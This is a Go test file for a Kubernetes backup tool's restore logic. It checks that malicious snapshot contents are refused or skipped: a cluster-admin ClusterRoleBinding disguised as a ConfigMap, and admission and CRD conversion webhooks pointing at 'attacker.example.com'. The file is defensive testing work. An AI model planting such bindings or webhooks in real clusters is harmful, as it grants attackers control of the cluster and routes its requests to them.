package kube

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/bunkerbackup/bunker/internal/testsrv"
)

func jsonOf(t *testing.T, v any) []byte {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestRestoreChecksObjectsAgainstTheirPath (issue 15, findings 4 and 9): a
// snapshot whose file under configmaps/ holds a cluster-admin
// ClusterRoleBinding, whose ConfigMap file holds a cluster-scoped kind, and
// which holds a Bunker Restore request. The restore refuses the disguised
// objects by path (also in a dry run), creates the honest ConfigMap in the
// namespace of its path, and leaves the Restore request alone.
func TestRestoreChecksObjectsAgainstTheirPath(t *testing.T) {
	k := testsrv.Kube(t)
	c, err := NewClients(k.Config())
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	crb := map[string]any{
		"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
		"metadata": map[string]any{"name": "disguised", "namespace": "team-a"},
		"roleRef":  map[string]any{"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
		"subjects": []any{map[string]any{"kind": "User", "name": "tenant", "apiGroup": "rbac.authorization.k8s.io"}},
	}
	ns := map[string]any{"apiVersion": "v1", "kind": "Namespace", "metadata": map[string]any{"name": "cluster-ns", "namespace": "team-a"}}
	cm := map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{"name": "honest", "namespace": "team-a"}, "data": map[string]any{"a": "b"}}
	restoreReq := map[string]any{"apiVersion": "bunker.dev/v1alpha1", "kind": "Restore", "metadata": map[string]any{"name": "again", "namespace": "team-a"}}
	tree := memTree{
		"namespaces/team-a/core/configmaps/disguised.json":  jsonOf(t, crb),
		"namespaces/team-a/core/configmaps/cluster-ns.json": jsonOf(t, ns),
		"namespaces/team-a/core/configmaps/honest.json":     jsonOf(t, cm),
		"namespaces/team-a/bunker.dev/restores/again.json":  jsonOf(t, restoreReq),
		"namespaces/team-a/core/secrets/not-a-secret.json":  jsonOf(t, map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{"name": "not-a-secret", "namespace": "team-a"}}),
	}
	for _, dry := range []bool{true, false} {
		var results []Result
		sum, err := Restore(ctx, c, tree, RestoreOptions{DryRun: dry, Report: func(r Result) { results = append(results, r) }})
		if err != nil {
			t.Fatalf("dry run %v: %v", dry, err)
		}
		byName := map[string]Result{}
		for _, r := range results {
			byName[r.Name] = r
		}
		for _, name := range []string{"disguised", "cluster-ns", "not-a-secret"} {
			r := byName[name]
			if r.Action != ActionFailed || !strings.Contains(r.Reason, "refused") {
				t.Errorf("dry run %v: %s: %s (%s), want refused", dry, name, r.Action, r.Reason)
			}
		}
		if _, ok := byName["again"]; ok {
			t.Errorf("dry run %v: the Restore request was considered: %+v", dry, byName["again"])
		}
		if r := byName["honest"]; r.Action != ActionCreated && r.Action != ActionWouldCreate {
			t.Errorf("dry run %v: honest ConfigMap: %s (%s)", dry, r.Action, r.Reason)
		}
		if sum.Failed != 3 {
			t.Errorf("dry run %v: %d failed, want 3", dry, sum.Failed)
		}
	}
	_, err = c.Dynamic.Resource(schema.GroupVersionResource{Group: "rbac.authorization.k8s.io", Version: "v1", Resource: "clusterrolebindings"}).Get(ctx, "disguised", metav1.GetOptions{})
	if !apierrors.IsNotFound(err) {
		t.Errorf("the disguised ClusterRoleBinding exists (or: %v)", err)
	}
	_, err = c.Dynamic.Resource(schema.GroupVersionResource{Version: "v1", Resource: "namespaces"}).Get(ctx, "cluster-ns", metav1.GetOptions{})
	if !apierrors.IsNotFound(err) {
		t.Errorf("the disguised Namespace exists (or: %v)", err)
	}
	if _, err := c.Dynamic.Resource(schema.GroupVersionResource{Version: "v1", Resource: "configmaps"}).Namespace("team-a").Get(ctx, "honest", metav1.GetOptions{}); err != nil {
		t.Errorf("the honest ConfigMap is not in team-a: %v", err)
	}
}

// TestRestorePrivilegedOnlyWhenNamed (issue 15): a snapshot holding a
// cluster-admin ClusterRoleBinding, an admission webhook, a CRD that
// converts through a webhook and Pod Security labels that would make
// namespaces privileged restores none of them unless named; a plain CRD
// still comes back; a named kind comes back alone; pod-security-labels
// brings the labels back.
func TestRestorePrivilegedOnlyWhenNamed(t *testing.T) {
	k := testsrv.Kube(t)
	c, err := NewClients(k.Config())
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	meta := func(name string) map[string]any { return map[string]any{"name": name} }
	crb := map[string]any{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": meta("planted-admin"),
		"roleRef":  map[string]any{"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
		"subjects": []any{map[string]any{"kind": "User", "name": "tenant", "apiGroup": "rbac.authorization.k8s.io"}}}
	hook := map[string]any{"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration", "metadata": meta("planted-hook"),
		"webhooks": []any{map[string]any{"name": "x.example.com", "admissionReviewVersions": []any{"v1"}, "sideEffects": "None",
			"clientConfig": map[string]any{"url": "https://attacker.example.com/"}}}}
	crd := func(name, group string, webhook bool) map[string]any {
		spec := map[string]any{"group": group, "scope": "Namespaced",
			"names": map[string]any{"plural": "things", "singular": "thing", "kind": "Thing"},
			"versions": []any{map[string]any{"name": "v1", "served": true, "storage": true,
				"schema": map[string]any{"openAPIV3Schema": map[string]any{"type": "object", "x-kubernetes-preserve-unknown-fields": true}}}}}
		if webhook {
			spec["conversion"] = map[string]any{"strategy": "Webhook", "webhook": map[string]any{"conversionReviewVersions": []any{"v1"},
				"clientConfig": map[string]any{"url": "https://attacker.example.com/convert"}}}
		}
		return map[string]any{"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition", "metadata": meta("things." + group), "spec": spec}
	}
	privNS := func(name string) map[string]any {
		return map[string]any{"apiVersion": "v1", "kind": "Namespace", "metadata": map[string]any{"name": name,
			"labels": map[string]any{"pod-security.kubernetes.io/enforce": "privileged", "team": "a"}}}
	}
	tree := memTree{
		"cluster/rbac.authorization.k8s.io/clusterrolebindings/planted-admin.json":               jsonOf(t, crb),
		"cluster/admissionregistration.k8s.io/validatingwebhookconfigurations/planted-hook.json": jsonOf(t, hook),
		"cluster/apiextensions.k8s.io/customresourcedefinitions/things.hooked.example.com.json":  jsonOf(t, crd("hooked.example.com", "hooked.example.com", true)),
		"cluster/apiextensions.k8s.io/customresourcedefinitions/things.plain.example.com.json":   jsonOf(t, crd("plain.example.com", "plain.example.com", false)),
		"cluster/core/namespaces/fresh.json":                                                     jsonOf(t, privNS("fresh")),
		"cluster/core/namespaces/strict.json":                                                    jsonOf(t, privNS("strict")),
	}
	nsGVR := schema.GroupVersionResource{Version: "v1", Resource: "namespaces"}
	strict := &unstructured.Unstructured{Object: map[string]any{"apiVersion": "v1", "kind": "Namespace", "metadata": map[string]any{"name": "strict",
		"labels": map[string]any{"pod-security.kubernetes.io/enforce": "restricted"}}}}
	if _, err := c.Dynamic.Resource(nsGVR).Create(ctx, strict, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	restore := func(privileged ...string) map[string]Result {
		t.Helper()
		byName := map[string]Result{}
		_, err := Restore(ctx, c, tree, RestoreOptions{Existing: ExistingUpdate, Privileged: privileged,
			Report: func(r Result) { byName[r.Name] = r }})
		if err != nil {
			t.Fatal(err)
		}
		return byName
	}
	exists := func(gvr schema.GroupVersionResource, name string) bool {
		_, err := c.Dynamic.Resource(gvr).Get(ctx, name, metav1.GetOptions{})
		return err == nil
	}
	enforce := func(ns string) string {
		u, err := c.Dynamic.Resource(nsGVR).Get(ctx, ns, metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		return u.GetLabels()["pod-security.kubernetes.io/enforce"]
	}
	crbGVR := schema.GroupVersionResource{Group: "rbac.authorization.k8s.io", Version: "v1", Resource: "clusterrolebindings"}
	hookGVR := schema.GroupVersionResource{Group: "admissionregistration.k8s.io", Version: "v1", Resource: "validatingwebhookconfigurations"}
	crdGVR := schema.GroupVersionResource{Group: "apiextensions.k8s.io", Version: "v1", Resource: "customresourcedefinitions"}

	got := restore()
	for _, name := range []string{"planted-admin", "planted-hook", "things.hooked.example.com"} {
		if r := got[name]; r.Action != ActionSkipped || !strings.Contains(r.Reason, "--privileged") {
			t.Errorf("%s: %s (%s), want skipped naming --privileged", name, r.Action, r.Reason)
		}
	}
	if exists(crbGVR, "planted-admin") || exists(hookGVR, "planted-hook") || exists(crdGVR, "things.hooked.example.com") {
		t.Error("a privileged object was restored without being named")
	}
	if !exists(crdGVR, "things.plain.example.com") {
		t.Errorf("the plain CRD was not restored: %+v", got["things.plain.example.com"])
	}
	if e := enforce("fresh"); e != "" {
		t.Errorf("new namespace: enforce=%q, want no Pod Security label from the snapshot", e)
	}
	if e := enforce("strict"); e != "restricted" {
		t.Errorf("existing namespace: enforce=%q, want its own restricted kept", e)
	}

	restore("clusterrolebindings")
	if !exists(crbGVR, "planted-admin") || exists(hookGVR, "planted-hook") {
		t.Error("--privileged clusterrolebindings: want the binding alone")
	}
	if err := (&RestoreOptions{Privileged: []string{"nodes"}}).Validate(); err == nil {
		t.Error("--privileged nodes accepted")
	}
	restore(PodSecurityLabels)
	if e := enforce("strict"); e != "privileged" {
		t.Errorf("with pod-security-labels: enforce=%q, want the snapshot's", e)
	}
}
